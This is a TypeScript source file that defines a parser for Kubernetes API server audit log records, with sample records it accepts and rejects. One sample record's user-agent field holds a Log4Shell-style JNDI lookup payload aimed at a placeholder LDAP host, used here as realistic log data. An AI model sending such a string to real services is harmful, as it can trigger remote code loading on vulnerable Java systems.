import { readTime } from '../time/read-time.ts'
import type { LogFormat } from './format.ts'
import { collectedFields } from './json-lines.ts'
import { memberOf, textAt } from './members.ts'

/** Audit events of the API server of Kubernetes. */
export const kubernetesAudit: LogFormat = {
  id: 'kubernetes-audit',
  summary: 'audit events of the Kubernetes API server, bodies included',
  definedBy: 'https://kubernetes.io/docs/reference/config-api/apiserver-audit.v1/',
  examples: {
    reads: [
      {
        record:
          '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/a/pods","verb":"create","sourceIPs":["203.0.113.9"],"userAgent":"${jndi:ldap://x.example/a}","requestReceivedTimestamp":"2021-12-12T04:25:41.123456Z","stageTimestamp":"2021-12-12T04:25:41.2Z"}',
        when: '2021-12-12T04:25:41.123Z',
        from: '203.0.113.9',
        request: 'create /api/v1/namespaces/a/pods',
        userAgent: '${jndi:ldap://x.example/a}',
      },
    ],
    refuses: ['{"kind":"Event","apiVersion":"v1","requestURI":"/a"}', '{"apiVersion":"audit.k8s.io/v1"}'],
  },
  read({ json }, { around }) {
    const uri = textAt(json, 'requestURI')
    if (json === null || uri === null || textAt(json, 'apiVersion')?.startsWith('audit.k8s.io/') !== true) return null
    const time = textAt(json, 'requestReceivedTimestamp') ?? textAt(json, 'stageTimestamp')
    return {
      when: time === null ? null : readTime(time, around),
      from: textAt(memberOf(json, 'sourceIPs'), '0'),
      request: `${textAt(json, 'verb') ?? ''} ${uri}`.trim(),
      userAgent: textAt(json, 'userAgent'),
      fields: collectedFields(json),
    }
  },
}
